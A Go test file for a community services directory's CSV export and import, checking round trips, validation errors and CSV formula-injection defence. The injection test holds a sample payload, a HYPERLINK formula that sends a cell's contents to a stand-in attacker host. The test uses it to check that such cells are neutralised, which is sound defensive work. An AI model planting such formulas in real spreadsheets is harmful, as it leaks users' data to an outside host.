package offer_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"joinedup/internal/apperr"
	"joinedup/internal/db"
	"joinedup/internal/db/dbtest"
	"joinedup/internal/offer"
)

func exportCSV(t testing.TB, d *db.DB) []byte {
	t.Helper()
	var b bytes.Buffer
	if _, err := (&offer.Store{DB: d}).ExportCSV(context.Background(), &b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func importCSV(t testing.TB, d *db.DB, file []byte, apply bool) (offer.ImportReport, error) {
	t.Helper()
	items, err := offer.ReadCSV(context.Background(), &offer.Store{DB: d}, bytes.NewReader(file), importNow)
	if err != nil {
		return offer.ImportReport{}, err
	}
	return offer.Import(context.Background(), d, items, offer.ImportOptions{Apply: apply, Now: importNow})
}

// Export CSV, import it: nothing changes. Edit a row: that service alone changes.
func TestCSVRoundTrip(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		tinyDemo(t, d)
		file := exportCSV(t, d)
		if !bytes.HasPrefix(file, []byte("\ufeffid,name,organisation,")) {
			t.Fatalf("the export starts %q", file[:40])
		}
		rep, err := importCSV(t, d, file, true)
		if err != nil {
			t.Fatal(err)
		}
		if len(rep.Unchanged) != 40 || len(rep.New)+len(rep.Changed) != 0 || rep.Organizations != (offer.Counts{}) || rep.Locations != (offer.Counts{}) {
			t.Fatalf("export → import: %d new, %d changed, %d unchanged, %+v %+v", len(rep.New), len(rep.Changed), len(rep.Unchanged), rep.Organizations, rep.Locations)
		}
		// An officer changes one row's times and price, and adds a service.
		rows, _ := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\ufeff")))).ReadAll()
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		rows[1][col["schedule"]] = "Tuesdays in term time, 4pm to 6pm"
		rows[1][col["cost_amount"]] = "2.50"
		added := make([]string, len(rows[0]))
		added[col["name"]], added[col["organisation"]] = "Sensory garden open days", "Green Fingers Community Garden"
		added[col["categories"]], added[col["venue"]] = rows[1][col["categories"]], "Green Fingers Garden"
		added[col["address_1"]], added[col["town"]], added[col["county"]], added[col["postcode"]] = "1 Orchard Lane", "Pershore", "Worcestershire", "wr10 1aa"
		added[col["minimum_age"]], added[col["maximum_age"]] = "0", "25"
		var edited bytes.Buffer
		w := csv.NewWriter(&edited)
		w.WriteAll(append(rows, added))
		rep, err = importCSV(t, d, edited.Bytes(), true)
		if err != nil {
			t.Fatal(err)
		}
		if len(rep.Changed) != 1 || rep.Changed[0].Service.ID != rows[1][col["id"]] || len(rep.New) != 1 || len(rep.Unchanged) != 39 ||
			rep.Organizations.New != 1 || rep.Locations.New != 1 {
			t.Fatalf("after editing: %d new, %d changed, %d unchanged, %+v %+v", len(rep.New), len(rep.Changed), len(rep.Unchanged), rep.Organizations, rep.Locations)
		}
		st := &offer.Store{DB: d}
		got, err := st.Service(context.Background(), rows[1][col["id"]])
		if err != nil {
			t.Fatal(err)
		}
		if got.Schedules[0].Description != "Tuesdays in term time, 4pm to 6pm" || *got.CostOptions[0].Amount != 2.5 {
			t.Errorf("the edited service: %+v %+v", got.Schedules, got.CostOptions)
		}
		l, _ := st.Services(context.Background(), offer.Filter{Search: "sensory garden"}, offer.Page{Number: 1, Size: 5})
		if len(l.Items) != 1 || l.Items[0].Organization.Name != "Green Fingers Community Garden" {
			t.Errorf("the added service: %+v", l.Items)
		}
		// Exported again, the edited directory reads back unchanged.
		if rep, err := importCSV(t, d, exportCSV(t, d), false); err != nil || len(rep.Unchanged) != 41 {
			t.Errorf("second round trip: %v, %d unchanged", err, len(rep.Unchanged))
		}
	})
}

// Cells a spreadsheet would run as formulas are kept as text on import and
// neutralised with a leading ' on export (OWASP, CSV injection); the
// neutralised export reads back unchanged.
func TestCSVFormulaInjection(t *testing.T) {
	d := dbtest.SQLite(t)
	tinyDemo(t, d)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+44 1632 960000", "-2+3", "@SUM(A1)", "\tTabbed", "\rCarriage"}
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.Write([]string{"name", "organisation", "description", "phone", "contact_name", "fees", "schedule"})
	w.Write(append([]string{"Safe name", "Safe organisation"}, hostile[:5]...))
	w.Write([]string{"Another", "Safe organisation", hostile[5], "", "", "", ""})
	w.Flush()
	rep, err := importCSV(t, d, in.Bytes(), true)
	if err != nil || len(rep.New) != 2 {
		t.Fatalf("%v, %+v", err, rep)
	}
	got, _ := (&offer.Store{DB: d}).Service(context.Background(), rep.New[0].Service.ID)
	if got.Description != hostile[0] || got.Contacts[0].Phones[0].Number != hostile[1] || got.Fees != hostile[3] {
		t.Errorf("stored: %q %q %q", got.Description, got.Contacts[0].Phones[0].Number, got.Fees)
	}
	out := exportCSV(t, d)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("an exported cell starts with %q: %q", cell[0], cell)
			}
		}
	}
	for _, h := range hostile {
		if !bytes.Contains(out, []byte(`'`+strings.ReplaceAll(h, `"`, `""`))) {
			t.Errorf("the export does not hold %q neutralised", h)
		}
	}
	if rep, err := importCSV(t, d, out, false); err != nil || len(rep.Unchanged) != 42 || len(rep.Changed) != 0 {
		t.Errorf("the neutralised export reads back: %v, %d unchanged, %d changed", err, len(rep.Unchanged), len(rep.Changed))
	}
}

// Bad files are refused with the line and column of every problem, and
// nothing is written.
func TestCSVBadInput(t *testing.T) {
	d := dbtest.SQLite(t)
	tinyDemo(t, d)
	head := "name,organisation,minimum_age,maximum_age,categories,venue,address_1,town,county,postcode,cost_amount,id\n"
	ok := "Swim,Club,5,11,Autism,,,,,,,\n"
	cases := []struct {
		name, file string
		want       []string
	}{
		{"Latin-1 bytes", head + ok + "Caf\xe9 club,Club,,,,,,,,,,\n", []string{"line 3: not UTF-8; save the file as CSV UTF-8"}},
		{"UTF-16", "\xff\xfen\x00a\x00", []string{"the file is UTF-16; save the file as CSV UTF-8"}},
		{"an unknown column", "name,organisation,colour\nSwim,Club,red\n", []string{`line 1: unknown column "colour"`}},
		{"no name column", "organisation\nClub\n", []string{`there is no "name" column`}},
		{"ages that are not numbers, the wrong way round", head + "Swim,Club,five,3,,,,,,,,\nRun,Club,9,3,,,,,,,,\n",
			[]string{"line 2: minimum_age: must be a whole number of years", "line 3: maximum_age: is below the minimum age"}},
		{"a term no taxonomy has", head + "Swim,Club,,,Autism; Underwater basket weaving,,,,,,,\n", []string{`line 2: categories: "Underwater basket weaving" is not a term`}},
		{"a term two taxonomies have", head + "Swim,Club,,,Hearing impairment,,,,,,,\n", []string{`line 2: categories: "Hearing impairment" is a term of`, `: Hearing impairment"`}},
		{"a place with a bad postcode and no town", head + "Swim,Club,,,,Pool,1 High St,,Worcestershire,XYZ,,\n", []string{"line 2: town: is required", "line 2: postcode: is not a UK postcode"}},
		{"a price that is not one", head + "Swim,Club,,,,,,,,,three pounds,\n", []string{"line 2: cost_amount: must be an amount in pounds"}},
		{"an id that is not a UUID", head + "Swim,Club,,,,,,,,,,42\n", []string{"line 2: id: must be a UUID"}},
		{"no organisation", head + "Swim,,,,,,,,,,,\n", []string{"line 2: organisation: is required"}},
		{"a stray quote", head + "\"Swim,Club\n", []string{"line 2"}},
		{"too many cells", head + "Swim,Club,,,,,,,,,,,extra\n", []string{"line 2: has 13 cells but the header names 12 columns"}},
		{"an empty file", "", []string{"the file is empty"}},
	}
	before := count(t, d, "offer_services")
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := importCSV(t, d, []byte(c.file), true)
			if apperr.CodeOf(err) != apperr.Invalid {
				t.Fatalf("got %v, want an invalid-input error", err)
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("the error does not say %q:\n%v", w, err)
				}
			}
			if n := count(t, d, "offer_services"); n != before {
				t.Errorf("%d services after a failed import, %d before", n, before)
			}
		})
	}
}
